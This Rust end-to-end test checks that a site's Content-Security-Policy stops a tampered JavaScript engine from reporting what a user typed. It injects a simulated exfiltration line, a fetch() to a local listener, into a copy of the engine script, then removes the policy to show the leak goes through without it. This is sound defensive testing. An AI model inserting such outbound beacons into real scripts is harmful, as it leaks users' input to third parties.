//! Nothing leaves the page, and the browser is who sees to it.

use std::fs;
use std::net::TcpListener;
use std::time::Duration;

use crate::browser::Browser;
use crate::site::Site;
use crate::support::{GLOWING, RELAXED, answer_to, copy, dist, engine, open};

/// What an engine gone bad would do: tell somebody else what was typed.
#[test]
#[ignore = "needs the built site: make e2e"]
fn the_browser_lets_the_engine_tell_nobody() {
    let dist = dist();
    let stranger = TcpListener::bind("127.0.0.1:0").expect("a free port");
    stranger.set_nonblocking(true).expect("a listener can be set not to block");
    let port = stranger.local_addr().expect("a bound listener has an address").port();
    let copy = copy(&dist);
    let script = engine(copy.path()).join(format!("{RELAXED}.js"));
    let code = fs::read_to_string(&script).expect("the engine can be read");
    let leak = format!("fetch('http://127.0.0.1:{port}/', {{ mode: 'no-cors' }}).catch(() => {{}});");
    fs::write(&script, format!("{leak}\n{code}")).expect("the engine can be written");

    let visit = || {
        let site = Site::serve(copy.path());
        let browser = Browser::start();
        open(&browser, &site.address());
        answer_to(&browser, GLOWING);
        std::thread::sleep(Duration::from_secs(1));
        stranger.accept().is_ok()
    };
    assert!(!visit(), "the engine has told somebody else");

    // Without the policy it would have: so what held it back is the policy, and the test can tell.
    let page = copy.path().join("index.html");
    let html = fs::read_to_string(&page).expect("the page can be read");
    fs::write(&page, html.replace("Content-Security-Policy", "no-policy")).expect("the page can be written");
    assert!(visit(), "without a policy nothing holds the engine back");
}
